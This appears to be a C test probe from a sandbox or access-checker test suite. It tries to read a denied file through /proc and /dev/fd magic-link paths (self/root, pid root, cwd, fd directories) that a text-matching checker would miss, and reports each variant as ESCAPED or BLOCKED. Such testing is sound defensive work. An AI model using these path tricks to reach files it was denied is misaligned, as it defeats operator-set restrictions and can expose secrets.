/*
 * esc_proc_root SECRET MARKER
 *
 * Reach the denied file SECRET through the magic links of /proc, which the
 * kernel follows to objects rather than names: /proc/self/root/SECRET,
 * /proc/<pid>/root/SECRET, /proc/thread-self/root/SECRET, then, with the
 * cwd in SECRET's directory, /proc/self/cwd/NAME, and with a directory fd
 * N of that directory, /proc/self/fd/N/NAME and /dev/fd/N/NAME.
 * A checker that matches the written text sees only "/proc/...".
 *
 * Prints "ESCAPED <variant>=<path>... (blocked: ...)" and exits 0 if
 * some variant read MARKER (all are tried), else
 * "BLOCKED <variant>=<errno>..." and exits 1 (2: usage/setup).
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "esc.h"

int
main(int argc, char **argv)
{
	char sdir[4096], sbase[4096], p[8192];
	const char *secret, *marker;
	int dfd;

	if (argc != 3 || argv[1][0] != '/') {
		fprintf(stderr, "usage: esc_proc_root /SECRET MARKER\n");
		return 2;
	}
	secret = argv[1];
	marker = argv[2];
	esc_split(secret, sdir, sizeof(sdir), sbase, sizeof(sbase));

	snprintf(p, sizeof(p), "/proc/self/root%s", secret);
	esc_open("self-root", p, marker);
	snprintf(p, sizeof(p), "/proc/%d/root%s", (int)getpid(), secret);
	esc_open("pid-root", p, marker);
	snprintf(p, sizeof(p), "/proc/thread-self/root%s", secret);
	esc_open("thread-self-root", p, marker);
	snprintf(p, sizeof(p), "/proc/self/root/proc/self/root%s", secret);
	esc_open("root-twice", p, marker);
	if (chdir(sdir) < 0) {
		printf("ERROR chdir %s: %s\n", sdir, strerror(errno));
		return 2;
	}
	snprintf(p, sizeof(p), "/proc/self/cwd/%s", sbase);
	esc_open("self-cwd", p, marker);
	snprintf(p, sizeof(p), "/proc/%d/task/%d/cwd/%s", (int)getpid(),
	    (int)gettid(), sbase);
	esc_open("task-cwd", p, marker);
	if ((dfd = esc_dirfd(sdir)) < 0 || chdir("/") < 0)
		return 2;
	snprintf(p, sizeof(p), "/proc/self/fd/%d/%s", dfd, sbase);
	esc_open("self-fd-dir", p, marker);
	snprintf(p, sizeof(p), "/dev/fd/%d/%s", dfd, sbase);
	esc_open("dev-fd-dir", p, marker);
	snprintf(p, sizeof(p), "/proc/self/fd/%d/../%s/%s", dfd,
	    strrchr(sdir, '/') + 1, sbase);
	if (strcmp(sdir, "/") != 0)
		esc_open("self-fd-dotdot", p, marker);
	return esc_report();
}
